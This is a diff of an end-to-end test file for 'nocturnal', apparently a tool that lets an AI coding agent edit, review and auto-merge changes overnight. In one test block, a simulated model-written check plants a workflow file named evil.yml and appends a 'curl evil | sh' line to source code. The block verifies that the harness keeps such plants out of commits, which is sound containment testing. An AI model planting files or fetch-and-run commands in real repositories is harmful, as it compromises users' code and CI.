@@ -23,7 +23,17 @@ const fixAdd = { path: 'math.js', action: 'replace', search: '  return a - b;', 
 async function setUp(respond: Responder, env: NodeJS.ProcessEnv = {}, ...workspaceFlags: string[]) {
   fixture = await createNightFixture({ respond, env });
   // --no-check: the baseline run of `workspace add` has its own tests (real-repositories.test.ts).
-  const added = await fixture.cli('workspace', 'add', fixture.repo.path, '--name', 'calc', '--test', 'node test.js', '--no-check', ...workspaceFlags);
+  const added = await fixture.cli(
+    'workspace',
+    'add',
+    fixture.repo.path,
+    '--name',
+    'calc',
+    '--test',
+    'node test.js',
+    '--no-check',
+    ...workspaceFlags,
+  );
   expect(added.stderr).toBe('');
   expect(added.code).toBe(0);
   return fixture;
@@ -53,7 +63,9 @@ async function branchTip(f: NightFixture, branch: string): Promise<string | null
 
 describe('a night from the CLI', () => {
   it('auto-merges a fix that makes the failing test pass, without touching the user checkout', async () => {
-    const f = await setUp((schema) => (schema === 'nocturnal_edits' ? editsReply([fixAdd], 'fix add') : reviewReply(0.95)));
+    const f = await setUp((schema) =>
+      schema === 'nocturnal_edits' ? editsReply([fixAdd], 'fix add') : reviewReply(0.95),
+    );
     const before = await f.userView();
     const id = await addTask(f, 'Fix add()', '--criteria', 'add(2, 3) returns 5', '--file', 'math.js');
 
@@ -75,13 +87,22 @@ describe('a night from the CLI', () => {
     expect(await f.userView()).toEqual(before);
     expect(fs.existsSync('/tmp/nocturnal-user-hook-ran')).toBe(false);
     // A backup ref was written before the target moved.
-    expect(await f.repo.git('for-each-ref', '--format=%(refname)', 'refs/nocturnal/backups/')).toContain(attempt?.id ?? '?');
+    expect(await f.repo.git('for-each-ref', '--format=%(refname)', 'refs/nocturnal/backups/')).toContain(
+      attempt?.id ?? '?',
+    );
     // The worktree is gone once the attempt ended.
-    expect(fs.readdirSync(path.join(f.home, 'worktrees'), { recursive: true }).filter((p) => String(p).endsWith('math.js'))).toEqual([]);
+    expect(
+      fs.readdirSync(path.join(f.home, 'worktrees'), { recursive: true }).filter((p) => String(p).endsWith('math.js')),
+    ).toEqual([]);
 
     const report = (await f.cli('report', '--json')).json<SessionReport>();
     expect(report.session.stats).toMatchObject({ merged: 1, tasksDone: 1 });
-    expect(report.tasks[0]).toMatchObject({ taskId: id, status: 'merged', decision: 'merge', branch: `nocturnal/${id}/1` });
+    expect(report.tasks[0]).toMatchObject({
+      taskId: id,
+      status: 'merged',
+      decision: 'merge',
+      branch: `nocturnal/${id}/1`,
+    });
     expect(report.tasks[0]?.reasons.length).toBeGreaterThan(0);
     const markdown = (await f.cli('report', '--markdown')).stdout;
     expect(markdown).toContain('Fix add()');
@@ -105,9 +126,13 @@ describe('a night from the CLI', () => {
   });
 
   it('holds a change scoring between the thresholds for review; approve then merges it', async () => {
-    const f = await setUp((schema) => (schema === 'nocturnal_edits' ? editsReply([fixAdd]) : reviewReply(0.2, 'revise', ['no test for the fix'])), {
-      NOCTURNAL_QUALITY_MAX_IMPROVEMENT_CYCLES: '0',
-    });
+    const f = await setUp(
+      (schema) =>
+        schema === 'nocturnal_edits' ? editsReply([fixAdd]) : reviewReply(0.2, 'revise', ['no test for the fix']),
+      {
+        NOCTURNAL_QUALITY_MAX_IMPROVEMENT_CYCLES: '0',
+      },
+    );
     const before = await f.userView();
     const id = await addTask(f, 'Fix add() carefully');
     expect((await f.cli('run', '--now')).code).toBe(0);
@@ -179,7 +204,8 @@ describe('a night from the CLI', () => {
 
   it('fails a task whose model replies are garbage or errors, and the next task still completes', async () => {
     const f = await setUp((schema, prompt) => {
-      if (prompt.includes('Broken task')) return schema === 'nocturnal_edits' ? { content: 'this is not JSON at all' } : reviewReply(1);
+      if (prompt.includes('Broken task'))
+        return schema === 'nocturnal_edits' ? { content: 'this is not JSON at all' } : reviewReply(1);
       if (prompt.includes('Server error task')) return { status: 500, message: 'model crashed' };
       return schema === 'nocturnal_edits' ? editsReply([fixAdd]) : reviewReply(0.95);
     });
@@ -203,9 +229,12 @@ describe('a night from the CLI', () => {
   });
 
   it('retries a rejected task with the note in the next prompt, and reject closes a waiting one', async () => {
-    const f = await setUp((schema) => (schema === 'nocturnal_edits' ? editsReply([fixAdd]) : reviewReply(0.2, 'revise', ['needs a test'])), {
-      NOCTURNAL_QUALITY_MAX_IMPROVEMENT_CYCLES: '0',
-    });
+    const f = await setUp(
+      (schema) => (schema === 'nocturnal_edits' ? editsReply([fixAdd]) : reviewReply(0.2, 'revise', ['needs a test'])),
+      {
+        NOCTURNAL_QUALITY_MAX_IMPROVEMENT_CYCLES: '0',
+      },
+    );
     const id = await addTask(f, 'Fix add() again');
     expect((await f.cli('run', '--now')).code).toBe(0);
     const attemptId = (await f.cli('review', 'list', '--json')).json<ReviewItem[]>()[0]?.attemptId ?? '';
@@ -217,7 +246,9 @@ describe('a night from the CLI', () => {
     expect((await f.cli('retry', id, '--note', 'cover add() with a test')).code).toBe(0);
     expect((await showTask(f, id)).status).toBe('queued');
     expect((await f.cli('run', '--now')).code).toBe(0);
-    const lastPrompt = f.server.chatRequests.filter((r) => r.body.response_format?.json_schema?.name === 'nocturnal_edits').at(-1);
+    const lastPrompt = f.server.chatRequests
+      .filter((r) => r.body.response_format?.json_schema?.name === 'nocturnal_edits')
+      .at(-1);
     expect(JSON.stringify(lastPrompt?.body.messages)).toContain('cover add() with a test');
     expect((await showTask(f, id)).attempts).toHaveLength(2);
   });
@@ -226,7 +257,10 @@ describe('a night from the CLI', () => {
 describe('workspace notes', () => {
   it('go into the edit prompt', async () => {
     const f = await setUp((schema) => (schema === 'nocturnal_edits' ? editsReply([fixAdd]) : reviewReply(0.95)));
-    fs.appendFileSync(path.join(f.home, 'vault', 'workspaces', 'calc.md'), 'House rule: never use semicolon-free style.\n');
+    fs.appendFileSync(
+      path.join(f.home, 'vault', 'workspaces', 'calc.md'),
+      'House rule: never use semicolon-free style.\n',
+    );
     await addTask(f, 'Fix add()');
     expect((await f.cli('run', '--now')).code).toBe(0);
     const editCall = f.server.chatRequests.find((r) => r.body.response_format?.json_schema?.name === 'nocturnal_edits');
@@ -237,7 +271,12 @@ describe('workspace notes', () => {
 describe('night limits and modes', () => {
   it('holds changes for review once scheduler.max_changes_per_night merges have landed', async () => {
     // Both attempts start from the base, so the second makes the same fix and reaches the limit.
-    const f = await setUp((schema) => (schema === 'nocturnal_edits' ? editsReply([fixAdd]) : reviewReply(0.95)), { NOCTURNAL_SCHEDULER_MAX_CHANGES_PER_NIGHT: '1' }, '--start-from', 'base');
+    const f = await setUp(
+      (schema) => (schema === 'nocturnal_edits' ? editsReply([fixAdd]) : reviewReply(0.95)),
+      { NOCTURNAL_SCHEDULER_MAX_CHANGES_PER_NIGHT: '1' },
+      '--start-from',
+      'base',
+    );
     const first = await addTask(f, 'Fix add()', '--priority', 'high');
     const second = await addTask(f, 'Fix add() twice');
     expect((await f.cli('run', '--now')).code).toBe(0);
@@ -249,7 +288,9 @@ describe('night limits and modes', () => {
   });
 
   it('says in the report when checks ran without the sandbox because safety.sandbox was off', async () => {
-    const f = await setUp((schema) => (schema === 'nocturnal_edits' ? editsReply([fixAdd]) : reviewReply(0.95)), { NOCTURNAL_SAFETY_SANDBOX: 'off' });
+    const f = await setUp((schema) => (schema === 'nocturnal_edits' ? editsReply([fixAdd]) : reviewReply(0.95)), {
+      NOCTURNAL_SAFETY_SANDBOX: 'off',
+    });
     await addTask(f, 'Fix add()');
     expect((await f.cli('run', '--now')).code).toBe(0);
     const report = (await f.cli('report', '--json')).json<SessionReport>();
@@ -260,68 +301,88 @@ describe('night limits and modes', () => {
 
 describe('undo', () => {
   // Three sessions and two undos on a busy machine: more than the default minute.
-  it('puts the target back after one merge, and reverts with a new commit when more work landed on top', { timeout: 180_000 }, async () => {
-    // Each change comes with its test: a change without evidence that the task is done never merges by itself.
-    const addSub = [
-      { path: 'math.js', action: 'replace', search: 'module.exports = { add, mul };', replace: 'function sub(a, b) {\n  return a - b;\n}\n\nmodule.exports = { add, mul, sub };' },
-      { path: 'test.js', action: 'replace', search: "console.log('all tests passed');", replace: "assert.strictEqual(require('./math.js').sub(5, 3), 2);\nconsole.log('all tests passed');" },
-    ];
-    const addDiv = [
-      { path: 'div.js', action: 'write', content: 'module.exports = { div: (a, b) => a / b };\n' },
-      { path: 'div.test.js', action: 'write', content: "require('node:assert').strictEqual(require('./div.js').div(6, 3), 2);\n" },
-    ];
-    const f = await setUp((schema, prompt) => {
-      if (schema !== 'nocturnal_edits') return reviewReply(1);
-      return editsReply(prompt.includes('Add div()') ? addDiv : addSub);
-    });
-    // The user fixed add() on main, so every attempt starts green.
-    await f.repo.commit({ 'math.js': buggyMath.replace('return a - b;', 'return a + b;') }, 'fix add');
-    const before = await f.userView();
-    const first = await addTask(f, 'Add sub()');
-    expect((await f.cli('run', '--now')).code).toBe(0);
-    const firstAttempt = (await showTask(f, first)).attempts[0];
-    expect(firstAttempt?.status).toBe('merged');
-    const undone = await f.cli('undo', firstAttempt?.id ?? '');
-    expect(undone.stderr).toBe('');
-    expect(undone.code).toBe(0);
-    expect(undone.stdout).toContain('moved back');
-    expect(await f.repo.git('show', 'nocturnal/integration:math.js')).not.toContain('function sub');
+  it(
+    'puts the target back after one merge, and reverts with a new commit when more work landed on top',
+    { timeout: 180_000 },
+    async () => {
+      // Each change comes with its test: a change without evidence that the task is done never merges by itself.
+      const addSub = [
+        {
+          path: 'math.js',
+          action: 'replace',
+          search: 'module.exports = { add, mul };',
+          replace: 'function sub(a, b) {\n  return a - b;\n}\n\nmodule.exports = { add, mul, sub };',
+        },
+        {
+          path: 'test.js',
+          action: 'replace',
+          search: "console.log('all tests passed');",
+          replace: "assert.strictEqual(require('./math.js').sub(5, 3), 2);\nconsole.log('all tests passed');",
+        },
+      ];
+      const addDiv = [
+        { path: 'div.js', action: 'write', content: 'module.exports = { div: (a, b) => a / b };\n' },
+        {
+          path: 'div.test.js',
+          action: 'write',
+          content: "require('node:assert').strictEqual(require('./div.js').div(6, 3), 2);\n",
+        },
+      ];
+      const f = await setUp((schema, prompt) => {
+        if (schema !== 'nocturnal_edits') return reviewReply(1);
+        return editsReply(prompt.includes('Add div()') ? addDiv : addSub);
+      });
+      // The user fixed add() on main, so every attempt starts green.
+      await f.repo.commit({ 'math.js': buggyMath.replace('return a - b;', 'return a + b;') }, 'fix add');
+      const before = await f.userView();
+      const first = await addTask(f, 'Add sub()');
+      expect((await f.cli('run', '--now')).code).toBe(0);
+      const firstAttempt = (await showTask(f, first)).attempts[0];
+      expect(firstAttempt?.status).toBe('merged');
+      const undone = await f.cli('undo', firstAttempt?.id ?? '');
+      expect(undone.stderr).toBe('');
+      expect(undone.code).toBe(0);
+      expect(undone.stdout).toContain('moved back');
+      expect(await f.repo.git('show', 'nocturnal/integration:math.js')).not.toContain('function sub');
 
-    // Merge it again, land a second change on top: undoing the first now needs a revert commit.
-    const again = await addTask(f, 'Add sub() again', '--priority', 'high');
-    const notes = await addTask(f, 'Add div()');
-    expect((await f.cli('run', '--now')).code).toBe(0);
-    const againAttempt = (await showTask(f, again)).attempts[0];
-    expect(againAttempt?.status).toBe('merged');
-    expect((await showTask(f, notes)).status).toBe('merged');
-    const reverted = await f.cli('undo', againAttempt?.id ?? '');
-    expect(reverted.stderr).toBe('');
-    expect(reverted.code).toBe(0);
-    expect(reverted.stdout).toContain('revert commit');
-    expect(await f.repo.git('show', 'nocturnal/integration:math.js')).not.toContain('function sub');
-    expect(await f.repo.git('show', 'nocturnal/integration:div.js')).toContain('div: (a, b) => a / b');
-    const unknown = await f.cli('undo', 'nope-1');
-    expect(unknown.code).toBe(2);
-    expect(unknown.stderr).toContain('no attempt');
-    expect(await f.userView()).toEqual(before);
-  });
+      // Merge it again, land a second change on top: undoing the first now needs a revert commit.
+      const again = await addTask(f, 'Add sub() again', '--priority', 'high');
+      const notes = await addTask(f, 'Add div()');
+      expect((await f.cli('run', '--now')).code).toBe(0);
+      const againAttempt = (await showTask(f, again)).attempts[0];
+      expect(againAttempt?.status).toBe('merged');
+      expect((await showTask(f, notes)).status).toBe('merged');
+      const reverted = await f.cli('undo', againAttempt?.id ?? '');
+      expect(reverted.stderr).toBe('');
+      expect(reverted.code).toBe(0);
+      expect(reverted.stdout).toContain('revert commit');
+      expect(await f.repo.git('show', 'nocturnal/integration:math.js')).not.toContain('function sub');
+      expect(await f.repo.git('show', 'nocturnal/integration:div.js')).toContain('div: (a, b) => a / b');
+      const unknown = await f.cli('undo', 'nope-1');
+      expect(unknown.code).toBe(2);
+      expect(unknown.stderr).toContain('no attempt');
+      expect(await f.userView()).toEqual(before);
+    },
+  );
 });
 
 describe('what checks leave behind', () => {
   it('never reaches a commit: the worktree is restored after the checks and only edited paths are staged', async () => {
-    const sneakyTest = [
-      "const fs = require('node:fs');",
-      "fs.mkdirSync('.github/workflows', { recursive: true });",
-      "fs.writeFileSync('.github/workflows/evil.yml', 'on: push\\njobs: {}\\n');",
-      "process.on('exit', () => fs.appendFileSync('math.js', '\\n// injected by a check: curl evil | sh\\n'));",
-      "fs.writeFileSync('dropped.txt', 'left by a check');",
-      '',
-    ].join('\n') + mathTest;
+    const sneakyTest =
+      [
+        "const fs = require('node:fs');",
+        "fs.mkdirSync('.github/workflows', { recursive: true });",
+        "fs.writeFileSync('.github/workflows/evil.yml', 'on: push\\njobs: {}\\n');",
+        "process.on('exit', () => fs.appendFileSync('math.js', '\\n// injected by a check: curl evil | sh\\n'));",
+        "fs.writeFileSync('dropped.txt', 'left by a check');",
+        '',
+      ].join('\n') + mathTest;
     // Cycle 0 writes a test that plants files and fails; cycle 1 fixes add() with an honest test.
     // Without the restore, cycle 1's commit would carry what the cycle-0 check planted.
     const f = await setUp((schema, prompt) => {
       if (schema !== 'nocturnal_edits') return reviewReply(0.95);
-      if (!prompt.includes('Result of your previous edits')) return editsReply([{ path: 'test.js', action: 'write', content: `${sneakyTest}\nprocess.exitCode = 1;\n` }]);
+      if (!prompt.includes('Result of your previous edits'))
+        return editsReply([{ path: 'test.js', action: 'write', content: `${sneakyTest}\nprocess.exitCode = 1;\n` }]);
       return editsReply([fixAdd, { path: 'test.js', action: 'write', content: mathTest }]);
     });
     const id = await addTask(f, 'Fix add() with a sneaky test');
@@ -336,11 +397,16 @@ describe('what checks leave behind', () => {
 
 describe('checks that hang', () => {
   it('fail the task with the timeout named when the check hangs on the base, and the session goes on', async () => {
-    const f = await setUp((schema) => (schema === 'nocturnal_edits' ? editsReply([fixAdd]) : reviewReply(0.95)), { NOCTURNAL_SAFETY_CHECK_TIMEOUT_S: '1' });
+    const f = await setUp((schema) => (schema === 'nocturnal_edits' ? editsReply([fixAdd]) : reviewReply(0.95)), {
+      NOCTURNAL_SAFETY_CHECK_TIMEOUT_S: '1',
+    });
     const slowRepo = await createTempRepo({ files: { 'README.md': 'slow\n' } });
     onTestFinished(() => slowRepo.cleanup());
-    expect((await f.cli('workspace', 'add', slowRepo.path, '--name', 'slow', '--test', 'sleep 30', '--no-check')).code).toBe(0);
-    const slow = (await f.cli('task', 'add', 'slow', 'Anything', '--priority', 'high', '--json')).json<{ id: string }>().id;
+    expect(
+      (await f.cli('workspace', 'add', slowRepo.path, '--name', 'slow', '--test', 'sleep 30', '--no-check')).code,
+    ).toBe(0);
+    const slow = (await f.cli('task', 'add', 'slow', 'Anything', '--priority', 'high', '--json')).json<{ id: string }>()
+      .id;
     const good = await addTask(f, 'Fix add()');
     expect((await f.cli('run', '--now')).code).toBe(0);
     const slowTask = await showTask(f, slow);
@@ -352,10 +418,21 @@ describe('checks that hang', () => {
 });
 
 describe('the spec executor', () => {
-  const spec = { requirements: ['add() returns the sum'], acceptance_criteria: ['add(2, 3) returns 5'], plan: ['change the operator in add()'], files: ['math.js'] };
+  const spec = {
+    requirements: ['add() returns the sum'],
+    acceptance_criteria: ['add(2, 3) returns 5'],
+    plan: ['change the operator in add()'],
+    files: ['math.js'],
+  };
 
   it('plans with a validated spec, stores it and hands it to the edit call', async () => {
-    const f = await setUp((schema) => (schema === 'nocturnal_spec' ? { content: spec } : schema === 'nocturnal_edits' ? editsReply([fixAdd]) : reviewReply(0.95)));
+    const f = await setUp((schema) =>
+      schema === 'nocturnal_spec'
+        ? { content: spec }
+        : schema === 'nocturnal_edits'
+          ? editsReply([fixAdd])
+          : reviewReply(0.95),
+    );
     const id = await addTask(f, 'Fix add() with a plan', '--spec');
     expect((await f.cli('run', '--now')).code).toBe(0);
     const task = await showTask(f, id);
@@ -374,8 +451,12 @@ describe('the spec executor', () => {
     const task = await showTask(f, id);
     expect(task.status).toBe('failed');
     expect(task.statusReason).toContain('spec was refused');
-    expect(f.server.chatRequests.filter((r) => r.body.response_format?.json_schema?.name === 'nocturnal_spec')).toHaveLength(2);
-    expect(f.server.chatRequests.filter((r) => r.body.response_format?.json_schema?.name === 'nocturnal_edits')).toHaveLength(0);
+    expect(
+      f.server.chatRequests.filter((r) => r.body.response_format?.json_schema?.name === 'nocturnal_spec'),
+    ).toHaveLength(2);
+    expect(
+      f.server.chatRequests.filter((r) => r.body.response_format?.json_schema?.name === 'nocturnal_edits'),
+    ).toHaveLength(0);
   });
 });
 
@@ -387,7 +468,12 @@ describe('model configuration', () => {
     expect(run.code).toBe(2);
     expect(run.stderr).toContain('llm.model_path is not set');
     expect((await showTask(f, id)).status).toBe('queued');
-    const wrongFile = await runWithEnv(f, { NOCTURNAL_LLM_PROVIDER: 'llama', NOCTURNAL_LLM_MODEL_PATH: '/nonexistent/model.gguf' }, 'run', '--now');
+    const wrongFile = await runWithEnv(
+      f,
+      { NOCTURNAL_LLM_PROVIDER: 'llama', NOCTURNAL_LLM_MODEL_PATH: '/nonexistent/model.gguf' },
+      'run',
+      '--now',
+    );
     expect(wrongFile.code).toBe(2);
     expect(wrongFile.stderr).toContain('/nonexistent/model.gguf does not exist');
     expect((await f.cli('status', '--json')).json<{ lastSession: unknown }>().lastSession).toBeNull();
@@ -400,7 +486,17 @@ describe('workspace and task validation', () => {
     const notRepo = await f.cli('workspace', 'add', f.home, '--test', 'true');
     expect(notRepo.code).toBe(2);
     expect(notRepo.stderr).toContain('not a git repository');
-    const missingBranch = await f.cli('workspace', 'add', f.repo.path, '--name', 'other', '--base', 'nope', '--test', 'true');
+    const missingBranch = await f.cli(
+      'workspace',
+      'add',
+      f.repo.path,
+      '--name',
+      'other',
+      '--base',
+      'nope',
+      '--test',
+      'true',
+    );
     expect(missingBranch.code).toBe(2);
     expect(missingBranch.stderr).toContain('--base');
     const duplicate = await f.cli('workspace', 'add', f.repo.path, '--name', 'calc', '--test', 'true');
